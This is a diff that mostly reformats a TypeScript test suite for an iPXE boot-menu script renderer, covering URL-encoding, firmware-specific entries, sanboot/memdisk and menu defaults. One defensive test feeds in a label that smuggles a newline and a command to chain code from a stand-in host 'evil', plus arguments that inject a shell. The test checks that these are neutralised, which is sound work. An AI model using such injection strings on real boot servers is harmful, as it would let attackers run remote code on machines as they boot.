@@ -3,35 +3,79 @@ import { applyMenu, DEFAULT_MENU, ipxeArgs, ipxeText, renderIpxeScript } from '.
 import type { BootEntry, MenuSettings, SourceSummary } from '../../../main/contract';
 
 function entry(id: string, over: Partial<BootEntry> = {}): BootEntry {
-  return { id: `s1:${id}`, sourceId: 's1', label: id, kind: 'linux', kernel: '/arch/boot/x86_64/vmlinuz-linux', initrd: ['/arch/boot/intel-ucode.img', '/arch/boot/x86_64/initramfs-linux.img'], cmdline: 'archisobasedir=arch archiso_http_srv=http://<server>/iso/s1/ ip=dhcp', enabled: true, isDefault: false, origin: 'iso-menu', firmware: ['bios', 'uefi'], ...over };
+  return {
+    id: `s1:${id}`,
+    sourceId: 's1',
+    label: id,
+    kind: 'linux',
+    kernel: '/arch/boot/x86_64/vmlinuz-linux',
+    initrd: ['/arch/boot/intel-ucode.img', '/arch/boot/x86_64/initramfs-linux.img'],
+    cmdline: 'archisobasedir=arch archiso_http_srv=http://<server>/iso/s1/ ip=dhcp',
+    enabled: true,
+    isDefault: false,
+    origin: 'iso-menu',
+    firmware: ['bios', 'uefi'],
+    ...over,
+  };
 }
 
 function source(entries: BootEntry[], over: Partial<SourceSummary> = {}): SourceSummary {
-  return { id: 's1', path: '/isos/arch.iso', kind: 'iso', label: 'ARCH_202403', size: 1, family: 'archiso', osName: 'Arch Linux', fileSystems: [], entries, warnings: [], ...over };
+  return {
+    id: 's1',
+    path: '/isos/arch.iso',
+    kind: 'iso',
+    label: 'ARCH_202403',
+    size: 1,
+    family: 'archiso',
+    osName: 'Arch Linux',
+    fileSystems: [],
+    entries,
+    warnings: [],
+    ...over,
+  };
 }
 
 const SERVER = { ip: '192.168.1.10', httpPort: 8080 };
 const menu = (over: Partial<MenuSettings> = {}): MenuSettings => ({ ...DEFAULT_MENU, ...over });
 
 /** Commands this renderer may emit (iPXE 1.0.0+git-20190125 has all of them). */
-const COMMANDS = new Set(['menu', 'item', 'choose', 'goto', 'set', 'iseq', 'imgfree', 'kernel', 'initrd', 'boot', 'chain', 'sanboot', 'echo', 'prompt', 'exit', 'shell']);
+const COMMANDS = new Set([
+  'menu',
+  'item',
+  'choose',
+  'goto',
+  'set',
+  'iseq',
+  'imgfree',
+  'kernel',
+  'initrd',
+  'boot',
+  'chain',
+  'sanboot',
+  'echo',
+  'prompt',
+  'exit',
+  'shell',
+]);
 
 /** Structural check: known commands only, every goto/choose target is a label, labels unique. */
 function lint(script: string): void {
   const lines = script.split('\n');
   expect(lines[0]).toBe('#!ipxe');
   const labels = new Set<string>();
-  for (const l of lines) if (l.startsWith(':')) {
-    expect(labels.has(l.slice(1)), `duplicate label ${l}`).toBe(false);
-    labels.add(l.slice(1));
-  }
+  for (const l of lines)
+    if (l.startsWith(':')) {
+      expect(labels.has(l.slice(1)), `duplicate label ${l}`).toBe(false);
+      labels.add(l.slice(1));
+    }
   const items = new Set<string>();
   for (const l of lines) {
     if (l === '' || l.startsWith('#') || l.startsWith(':')) continue;
     for (const cmd of l.split(/ \|\| | && /)) {
       const words = cmd.trim().split(/\s+/);
       expect(COMMANDS.has(words[0]!), `unknown command in "${l}"`).toBe(true);
-      if (words[0] === 'goto' && !words[1]!.startsWith('${')) expect(labels.has(words[1]!), `goto ${words[1]} has no label`).toBe(true);
+      if (words[0] === 'goto' && !words[1]!.startsWith('${'))
+        expect(labels.has(words[1]!), `goto ${words[1]} has no label`).toBe(true);
       if (words[0] === 'item' && words[1] !== '--gap') items.add(words[1]!);
     }
   }
@@ -58,7 +102,9 @@ describe('renderIpxeScript', () => {
       'kernel http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/vmlinuz-linux initrd=intel-ucode.img initrd=initramfs-linux.img archisobasedir=arch archiso_http_srv=http://192.168.1.10:8080/iso/s1/ ip=dhcp',
     );
     expect(script).toContain('initrd --name intel-ucode.img http://192.168.1.10:8080/iso/s1/arch/boot/intel-ucode.img');
-    expect(script).toContain('initrd --name initramfs-linux.img http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/initramfs-linux.img');
+    expect(script).toContain(
+      'initrd --name initramfs-linux.img http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/initramfs-linux.img',
+    );
     expect(script).toMatch(/:bd-e0\necho Booting a\nimgfree\nkernel /);
     expect(script).toContain('boot || goto bd-failed');
   });
@@ -66,14 +112,20 @@ describe('renderIpxeScript', () => {
   it('URL-encodes path components and keeps duplicate initrd names apart', () => {
     const e = entry('a', { kernel: '/My Dir/vmlinuz#1', initrd: ['/a/initrd.img', '/b/initrd.img'] });
     const script = renderIpxeScript([source([e])], menu(), { ip: '10.0.0.1', httpPort: 80 });
-    expect(script).toContain('kernel http://10.0.0.1/iso/s1/My%20Dir/vmlinuz%231 initrd=initrd.img initrd=1-initrd.img');
+    expect(script).toContain(
+      'kernel http://10.0.0.1/iso/s1/My%20Dir/vmlinuz%231 initrd=initrd.img initrd=1-initrd.img',
+    );
     expect(script).toContain('initrd --name 1-initrd.img http://10.0.0.1/iso/s1/b/initrd.img');
   });
 
   it('cannot be injected into through labels, per-entry or global arguments', () => {
     const evil = 'Evil\nshell ; chain http://evil/x || reboot ${net0/mac} #c';
     const s = source([entry('a', { isDefault: true })]);
-    const script = renderIpxeScript([s], menu({ append: 'quiet ; shell || reboot', overrides: { 's1:a': { label: evil, append: 'x=${root} #y z' } } }), SERVER);
+    const script = renderIpxeScript(
+      [s],
+      menu({ append: 'quiet ; shell || reboot', overrides: { 's1:a': { label: evil, append: 'x=${root} #y z' } } }),
+      SERVER,
+    );
     lint(script);
     const lines = script.split('\n');
     const item = lines.find((l) => l.startsWith('item bd-e0'))!;
@@ -85,32 +137,66 @@ describe('renderIpxeScript', () => {
   });
 
   it('shows firmware-specific entries only on that firmware and picks a default per firmware', () => {
-    const s = source([
-      entry('bios-test', { kind: 'linux', kernel: '/boot/memtest86+x64.bin', initrd: [], cmdline: '', firmware: ['bios'], isDefault: true }),
-      entry('efi-test', { kind: 'chain', kernel: '/EFI/BOOT/BOOTX64.EFI', initrd: [], cmdline: '', firmware: ['uefi'] }),
-    ], { family: 'memtest' });
+    const s = source(
+      [
+        entry('bios-test', {
+          kind: 'linux',
+          kernel: '/boot/memtest86+x64.bin',
+          initrd: [],
+          cmdline: '',
+          firmware: ['bios'],
+          isDefault: true,
+        }),
+        entry('efi-test', {
+          kind: 'chain',
+          kernel: '/EFI/BOOT/BOOTX64.EFI',
+          initrd: [],
+          cmdline: '',
+          firmware: ['uefi'],
+        }),
+      ],
+      { family: 'memtest' },
+    );
     const script = renderIpxeScript([s], menu(), SERVER);
     lint(script);
     expect(script).toMatch(/iseq \$\{platform\} pcbios \|\| goto (bd-skip-\d+)\nitem bd-e0 bios-test\n:\1/);
     expect(script).toMatch(/iseq \$\{platform\} efi \|\| goto (bd-skip-\d+)\nitem bd-e1 efi-test\n:\1/);
-    expect(script).toMatch(/set bd-default bd-e0\niseq \$\{platform\} efi \|\| goto bd-choose\nset bd-default bd-e1\n:bd-choose/);
+    expect(script).toMatch(
+      /set bd-default bd-e0\niseq \$\{platform\} efi \|\| goto bd-choose\nset bd-default bd-e1\n:bd-choose/,
+    );
     expect(script).toContain('chain http://192.168.1.10:8080/iso/s1/EFI/BOOT/BOOTX64.EFI || goto bd-failed');
   });
 
   it('renders generic sanboot/memdisk entries from the raw ISO and the bundled memdisk', () => {
-    const s = source([
-      entry('g', { kind: 'sanboot', kernel: undefined, initrd: [], cmdline: '', origin: 'generic' }),
-      entry('m', { kind: 'memdisk', kernel: undefined, initrd: [], cmdline: 'iso raw', origin: 'generic', firmware: ['bios'] }),
-    ], { family: 'generic' });
+    const s = source(
+      [
+        entry('g', { kind: 'sanboot', kernel: undefined, initrd: [], cmdline: '', origin: 'generic' }),
+        entry('m', {
+          kind: 'memdisk',
+          kernel: undefined,
+          initrd: [],
+          cmdline: 'iso raw',
+          origin: 'generic',
+          firmware: ['bios'],
+        }),
+      ],
+      { family: 'generic' },
+    );
     const script = renderIpxeScript([s], menu(), SERVER);
     lint(script);
     expect(script).toContain('sanboot --no-describe http://192.168.1.10:8080/iso/s1.iso || goto bd-failed');
-    expect(script).toContain('kernel http://192.168.1.10:8080/loaders/memdisk iso raw\ninitrd http://192.168.1.10:8080/iso/s1.iso');
+    expect(script).toContain(
+      'kernel http://192.168.1.10:8080/loaders/memdisk iso raw\ninitrd http://192.168.1.10:8080/iso/s1.iso',
+    );
   });
 
   it('honours timeout 0 (wait), disabled entries, a chosen default, and rejects a bad server address', () => {
     const s = source([entry('a', { isDefault: true }), entry('b'), entry('c')]);
-    const script = renderIpxeScript([s], menu({ timeoutSec: 0, defaultEntryId: 's1:c', overrides: { 's1:b': { enabled: false } } }), SERVER);
+    const script = renderIpxeScript(
+      [s],
+      menu({ timeoutSec: 0, defaultEntryId: 's1:c', overrides: { 's1:b': { enabled: false } } }),
+      SERVER,
+    );
     lint(script);
     expect(script).toContain('choose --default ${bd-default} bd-target');
     expect(script).not.toContain('item bd-e1 b');
@@ -133,8 +219,15 @@ describe('renderIpxeScript with nothing to serve', () => {
 
 describe('applyMenu', () => {
   it('applies labels, enabled, per-entry and global args (not to memtest/sanboot) and keeps one default', () => {
-    const s = source([entry('a', { isDefault: true }), entry('m', { kernel: '/boot/memtest', cmdline: '' }), entry('g', { kind: 'sanboot', cmdline: '' })]);
-    const [out] = applyMenu([s], menu({ append: 'console=ttyS0', overrides: { 's1:a': { label: 'Mine', append: 'nomodeset', enabled: false } } }));
+    const s = source([
+      entry('a', { isDefault: true }),
+      entry('m', { kernel: '/boot/memtest', cmdline: '' }),
+      entry('g', { kind: 'sanboot', cmdline: '' }),
+    ]);
+    const [out] = applyMenu(
+      [s],
+      menu({ append: 'console=ttyS0', overrides: { 's1:a': { label: 'Mine', append: 'nomodeset', enabled: false } } }),
+    );
     expect(out!.entries[0]).toMatchObject({ label: 'Mine', enabled: false, isDefault: false });
     expect(out!.entries[0]!.cmdline.endsWith('ip=dhcp nomodeset console=ttyS0')).toBe(true);
     expect(out!.entries[1]!.cmdline).toBe('');
